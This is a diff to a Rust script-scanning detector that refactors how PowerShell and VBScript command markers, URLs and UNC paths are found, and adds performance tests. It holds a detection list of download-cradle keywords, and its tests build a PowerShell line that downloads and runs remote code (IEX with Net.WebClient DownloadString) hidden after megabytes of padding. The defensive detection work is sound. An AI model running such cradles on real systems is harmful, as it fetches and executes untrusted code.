@@ -9,7 +9,7 @@
 use crate::{Node, Walk};
 use aho_corasick::{AhoCorasick, AhoCorasickBuilder, MatchKind};
 use spearwatch_core::{technique as t, truncate_str, Severity};
-use std::collections::BTreeSet;
+use std::collections::{BTreeSet, HashSet};
 use std::sync::OnceLock;
 
 // ATT&CK techniques not (yet) in `spearwatch_core::technique`.
@@ -67,7 +67,11 @@ pub(crate) const LAUNCHERS: &[Launcher] = &[
 
 /// The launchers a command line (or a target path) names, each once, in table order.
 pub(crate) fn launchers(cmd: &str) -> Vec<&'static Launcher> {
-    let low = cmd.to_ascii_lowercase();
+    launchers_in_lower(&cmd.to_ascii_lowercase())
+}
+
+/// [`launchers`] of a command line already lower-cased.
+fn launchers_in_lower(low: &str) -> Vec<&'static Launcher> {
     let b = low.as_bytes();
     LAUNCHERS
         .iter()
@@ -113,24 +117,57 @@ pub(crate) fn command_markers(cmd: &str) -> Vec<&'static str> {
     markers(cmd, false)
 }
 
+/// Substrings of a lower-cased command line and what they mean.
+const COMMAND_NEEDLES: &[(&str, &str)] = &[
+    ("downloadstring", "download"),
+    ("downloadfile", "download"),
+    ("downloaddata", "download"),
+    ("invoke-webrequest", "download"),
+    ("invoke-restmethod", "download"),
+    ("iwr ", "download"),
+    ("irm ", "download"),
+    ("net.webclient", "download"),
+    ("start-bitstransfer", "download"),
+    ("xmlhttp", "download"),
+    ("winhttp", "download"),
+    ("frombase64string", "decode"),
+    ("iex", "Invoke-Expression"),
+    ("invoke-expression", "Invoke-Expression"),
+    ("http://", "URL"),
+    ("https://", "URL"),
+    ("ftp://", "URL"),
+    ("javascript:", "script URL"),
+    ("vbscript:", "script URL"),
+    ("start-process", "process start"),
+    ("shellexecute", "process start"),
+    ("-join", "string building"),
+    ("[char]", "string building"),
+];
+
+fn command_matcher() -> &'static AhoCorasick {
+    static M: OnceLock<AhoCorasick> = OnceLock::new();
+    M.get_or_init(|| {
+        AhoCorasick::new(COMMAND_NEEDLES.iter().map(|p| p.0)).expect("static patterns build")
+    })
+}
+
 /// [`command_markers`]; `powershell` says the text is PowerShell even if it does not name it, so
 /// that PowerShell's short parameters (`-e`, `-w`) count.
 fn markers(cmd: &str, powershell: bool) -> Vec<&'static str> {
-    let low = cmd.to_ascii_lowercase();
+    markers_in_lower(&cmd.to_ascii_lowercase(), powershell)
+}
+
+/// [`markers`] of text already lower-cased. Tokens are read as a stream (a script may be tens of
+/// megabytes of one-letter words).
+fn markers_in_lower(low: &str, powershell: bool) -> Vec<&'static str> {
     let ps = powershell || low.contains("powershell") || low.contains("pwsh");
     let mut out = BTreeSet::new();
-    let tokens: Vec<&str> = low
-        .split(|c: char| c.is_whitespace() || c == '"' || c == '\'')
-        .filter(|s| !s.is_empty())
-        .collect();
-    for (i, tok) in tokens.iter().enumerate() {
+    for (tok, next) in switch_tokens(low) {
         let flag = tok.trim_start_matches(['-', '/', '\u{2013}', '\u{2014}']);
-        let is_flag = flag.len() < tok.len();
-        if !is_flag || flag.is_empty() {
+        if flag.is_empty() {
             continue;
         }
         // PowerShell accepts any unambiguous prefix of a parameter name.
-        let next = tokens.get(i + 1).copied().unwrap_or("");
         if ps
             && (flag == "e"
                 || flag == "ec"
@@ -162,48 +199,38 @@ fn markers(cmd: &str, powershell: bool) -> Vec<&'static str> {
             out.insert("download");
         }
     }
-    for (needle, label) in [
-        ("downloadstring", "download"),
-        ("downloadfile", "download"),
-        ("downloaddata", "download"),
-        ("invoke-webrequest", "download"),
-        ("invoke-restmethod", "download"),
-        ("iwr ", "download"),
-        ("irm ", "download"),
-        ("net.webclient", "download"),
-        ("start-bitstransfer", "download"),
-        ("xmlhttp", "download"),
-        ("winhttp", "download"),
-        ("frombase64string", "decode"),
-        ("iex", "Invoke-Expression"),
-        ("invoke-expression", "Invoke-Expression"),
-        ("http://", "URL"),
-        ("https://", "URL"),
-        ("ftp://", "URL"),
-        ("javascript:", "script URL"),
-        ("vbscript:", "script URL"),
-        ("start-process", "process start"),
-        ("shellexecute", "process start"),
-        ("-join", "string building"),
-        ("[char]", "string building"),
-    ] {
-        if let Some(i) = low.find(needle) {
-            // `iex` must be a word of its own (not part of "hexdump" and the like).
-            if needle == "iex" {
-                let b = low.as_bytes();
-                let before_ok = i == 0 || !b[i - 1].is_ascii_alphanumeric();
-                let after_ok = b.get(i + 3).is_none_or(|c| !c.is_ascii_alphanumeric());
-                if !(before_ok && after_ok) {
-                    continue;
-                }
-            }
-            out.insert(label);
+    // One pass for every needle; `iex` must be a word of its own (not part of "hexdump").
+    let b = low.as_bytes();
+    for m in command_matcher().find_overlapping_iter(low) {
+        let (needle, label) = COMMAND_NEEDLES[m.pattern().as_usize()];
+        if out.contains(label) {
+            continue;
         }
+        if needle == "iex" {
+            let i = m.start();
+            let before_ok = i == 0 || b.get(i - 1).is_some_and(|c| !c.is_ascii_alphanumeric());
+            let after_ok = b.get(i + 3).is_none_or(|c| !c.is_ascii_alphanumeric());
+            if !(before_ok && after_ok) {
+                continue;
+            }
+        }
+        out.insert(label);
     }
-    if low.contains("\\\\") && !low.starts_with("\\\\?\\") {
-        let unc = low
-            .split_whitespace()
-            .any(|w| w.trim_matches(['"', '\'']).starts_with("\\\\") && w.len() > 4);
+    if !low.starts_with("\\\\?\\") {
+        // A word (after optional quotes) that starts with `\\\\`.
+        let unc = memchr::memmem::find_iter(low.as_bytes(), b"\\\\").any(|i| {
+            let head = low
+                .get(..i)
+                .unwrap_or_default()
+                .trim_end_matches(['"', '\'']);
+            let word_start = head.chars().next_back().is_none_or(char::is_whitespace);
+            let word = low.get(head.len()..).unwrap_or_default();
+            word_start
+                && word
+                    .split(char::is_whitespace)
+                    .next()
+                    .is_some_and(|w| w.len() > 4)
+        });
         if unc {
             out.insert("UNC path");
         }
@@ -211,34 +238,82 @@ fn markers(cmd: &str, powershell: bool) -> Vec<&'static str> {
     out.into_iter().collect()
 }
 
-/// `http(s)://` and `ftp://` addresses in a command line.
+fn is_separator(c: char) -> bool {
+    c.is_whitespace() || c == '"' || c == '\''
+}
+
+/// The words (split at blanks and quotes) that start with a switch character (`-`, `/`, en or em
+/// dash), each with the word after it. Found with memchr rather than by splitting the whole text,
+/// which costs a closure call per character.
+fn switch_tokens(low: &str) -> impl Iterator<Item = (&str, &str)> {
+    // '-' and '/' are ASCII; 0xE2 leads the UTF-8 of U+2013 and U+2014: all on char boundaries.
+    memchr::memchr3_iter(b'-', b'/', 0xE2, low.as_bytes()).filter_map(move |i| {
+        let rest = low.get(i..)?;
+        if !rest.starts_with(['-', '/', '\u{2013}', '\u{2014}']) {
+            return None;
+        }
+        if low
+            .get(..i)?
+            .chars()
+            .next_back()
+            .is_some_and(|c| !is_separator(c))
+        {
+            return None; // inside a word
+        }
+        let end = rest.find(is_separator).unwrap_or(rest.len());
+        let after = rest.get(end..)?.trim_start_matches(is_separator);
+        let next_end = after.find(is_separator).unwrap_or(after.len());
+        Some((rest.get(..end)?, after.get(..next_end)?))
+    })
+}
+
+/// Addresses kept from one text at most: a script of millions of distinct URLs is evidence enough
+/// after the first hundred.
+pub(crate) const MAX_URLS: usize = 100;
+
+/// `http(s)://` and `ftp://` addresses in a command line, each once, in text order, at most
+/// [`MAX_URLS`].
 pub(crate) fn urls(cmd: &str) -> Vec<String> {
-    let mut out = Vec::new();
-    let low = cmd.to_ascii_lowercase();
+    urls_with_lower(cmd, &cmd.to_ascii_lowercase())
+}
+
+/// [`urls`] with `low` = `cmd` lower-cased (ASCII only, so byte offsets agree).
+fn urls_with_lower(cmd: &str, low: &str) -> Vec<String> {
+    let mut found: Vec<(usize, String)> = Vec::new();
+    let mut seen: HashSet<String> = HashSet::new();
     for scheme in ["http://", "https://", "ftp://"] {
+        let mut kept = 0;
         for (i, _) in low.match_indices(scheme) {
-            let u: String = cmd[i..]
+            if kept >= MAX_URLS {
+                break;
+            }
+            let u: String = cmd
+                .get(i..)
+                .unwrap_or_default()
                 .chars()
                 .take_while(|c| {
                     !c.is_whitespace() && !matches!(c, '"' | '\'' | ')' | ';' | '`' | '|')
                 })
                 .take(300)
                 .collect();
-            if u.len() > scheme.len() && !out.contains(&u) {
-                out.push(u);
+            if u.len() > scheme.len() && seen.insert(u.clone()) {
+                found.push((i, u));
+                kept += 1;
             }
         }
     }
-    out
+    found.sort_unstable_by_key(|(i, _)| *i);
+    found.truncate(MAX_URLS);
+    found.into_iter().map(|(_, u)| u).collect()
 }
 
-/// Script language by extension: (name, technique, whether a double-click runs it on Windows).
-fn language(ext: &str, text: &str) -> (&'static str, &'static str, bool) {
+/// Script language by extension (`low`: the text lower-cased): (name, technique, whether a
+/// double-click runs it on Windows).
+fn language(ext: &str, low: &str) -> (&'static str, &'static str, bool) {
     match ext {
         "js" | "jse" => ("JScript", t::JAVASCRIPT, true),
         "vbs" | "vbe" => ("VBScript", t::VISUAL_BASIC, true),
         "wsf" | "wsh" => {
-            let low = text.to_ascii_lowercase();
             if low.contains("language=\"vbscript\"") || low.contains("language=vbscript") {
                 ("Windows Script File (VBScript)", t::VISUAL_BASIC, true)
             } else {
@@ -259,7 +334,6 @@ fn language(ext: &str, text: &str) -> (&'static str, &'static str, bool) {
 
 /// The script as text: UTF-16 with a byte order mark, UTF-8, else Latin-1 (VBE/JSE are ANSI).
 fn decode_text(data: &[u8]) -> String {
-    let data = &data[..data.len().min(8 << 20)];
     if let Some(rest) = data.strip_prefix(&[0xFF, 0xFE]) {
         let u: Vec<u16> = rest
             .chunks_exact(2)
@@ -344,15 +418,32 @@ fn matcher() -> &'static AhoCorasick {
     })
 }
 
-pub(crate) fn analyse(_w: &mut Walk<'_>, node: &mut Node, data: &[u8]) {
-    let text = decode_text(data);
+pub(crate) fn analyse(w: &mut Walk<'_>, node: &mut Node, data: &[u8]) {
+    // Every check below is linear, so the whole script is read: padding must not push the payload
+    // out of view. Only a top-level attachment can exceed the walk's object limit (members are cut
+    // at it); beyond that the rest is flagged, not read.
+    let max = usize::try_from(w.limits().max_object_bytes).unwrap_or(usize::MAX);
+    if data.len() > max {
+        w.limit(
+            node,
+            "object size",
+            format!(
+                "script of {} bytes; only the first {max} were read",
+                data.len()
+            ),
+        );
+    }
+    let text = decode_text(data.get(..max).unwrap_or(data));
+    let low = text.to_ascii_lowercase();
     let ext = node
         .name
         .rsplit_once('.')
         .map(|(_, e)| e.to_ascii_lowercase())
         .unwrap_or_default();
-    let (lang, tech, runs) = language(&ext, &text);
-    let lines = text.lines().count();
+    let (lang, tech, runs) = language(&ext, &low);
+    let (lines, longest) = text
+        .lines()
+        .fold((0usize, 0usize), |(n, m), l| (n + 1, m.max(l.len())));
     node.format = Some(format!("{lang} script, {lines} lines"));
 
     node.flag(
@@ -380,7 +471,7 @@ pub(crate) fn analyse(_w: &mut Walk<'_>, node: &mut Node, data: &[u8]) {
         *counts.entry(cat).or_default() += 1;
         hits.entry(cat).or_default().insert(pat);
     }
-    let cmd = markers(&text, tech == t::POWERSHELL);
+    let cmd = markers_in_lower(&low, tech == t::POWERSHELL);
     let encoded = text.contains("#@~^");
 
     if encoded {
@@ -394,7 +485,7 @@ pub(crate) fn analyse(_w: &mut Walk<'_>, node: &mut Node, data: &[u8]) {
         );
     }
     let mut download: BTreeSet<&str> = hits.get("download").cloned().unwrap_or_default();
-    let urls = urls(&text);
+    let urls = urls_with_lower(&text, &low);
     if !download.is_empty() {
         if !urls.is_empty() {
             download.insert("URL");
@@ -439,7 +530,7 @@ pub(crate) fn analyse(_w: &mut Walk<'_>, node: &mut Node, data: &[u8]) {
     let iex = cmd.contains(&"Invoke-Expression");
     if !exec.is_empty() || iex {
         let mut techs = vec![tech];
-        for la in launchers(&text) {
+        for la in launchers_in_lower(&low) {
             if !techs.contains(&la.technique) {
                 techs.push(la.technique);
             }
@@ -467,7 +558,6 @@ pub(crate) fn analyse(_w: &mut Walk<'_>, node: &mut Node, data: &[u8]) {
     // Obfuscation: character-code building, eval of built strings, long unbroken lines, big base64.
     let chr = counts.get("chr").copied().unwrap_or(0);
     let evals = counts.get("eval").copied().unwrap_or(0);
-    let longest = text.lines().map(str::len).max().unwrap_or(0);
     let concat = text.matches("\"+\"").count()
         + text.matches("\" + \"").count()
         + text.matches("\"&\"").count()
@@ -582,5 +672,48 @@ mod tests {
     fn plain_batch_file_gets_only_the_file_finding() {
         let ids = ids(b"@echo off\r\necho hello\r\npause\r\n", "hello.bat");
         assert_eq!(ids, ["script.file"]);
+    }
+
+    #[test]
+    fn many_distinct_urls_stay_linear() {
+        // 2 MB of distinct addresses: a quadratic dedupe compares 10^9 pairs (seconds even when
+        // optimised); the set and the cap take milliseconds.
+        let mut s = String::from("$w = New-Object Net.WebClient\n");
+        for i in 0..50_000 {
+            s.push_str(&format!("$w.DownloadString('http://h{i}.example/p')\n"));
+        }
+        let t = std::time::Instant::now();
+        let u = urls(&s);
+        assert_eq!(u.len(), MAX_URLS);
+        assert_eq!(u[0], "http://h0.example/p");
+        let n = analyse(s.as_bytes(), "get.ps1", None, &Options::default());
+        assert!(t.elapsed().as_secs_f64() < 1.0, "{:?}", t.elapsed());
+        let f = n
+            .findings
+            .iter()
+            .find(|f| f.id == "script.download")
+            .unwrap();
+        assert!(f.evidence[0]
+            .note
+            .as_deref()
+            .unwrap()
+            .contains("http://h4.example/p"));
+    }
+
+    #[test]
+    fn payload_after_padding_is_seen() {
+        // 9 MB of comment lines push the download cradle past the old 8 MB window.
+        let pad = "# lorem ipsum dolor sit amet\r\n";
+        let mut s = pad.repeat((9 << 20) / pad.len() + 1);
+        s.push_str("IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a')\r\n");
+        assert!(s.len() > 9 << 20);
+        let t = std::time::Instant::now();
+        let ids = ids(s.as_bytes(), "update.ps1");
+        // Linear: ~0.5 s for 9 MB in an unoptimised test build on one core, far less in release.
+        assert!(t.elapsed().as_secs_f64() < 5.0, "{:?}", t.elapsed());
+        for id in ["script.download", "script.exec"] {
+            assert!(ids.iter().any(|i| i == id), "{id} in {ids:?}");
+        }
+        assert!(!ids.iter().any(|i| i == "content.limit"), "{ids:?}");
     }
 }
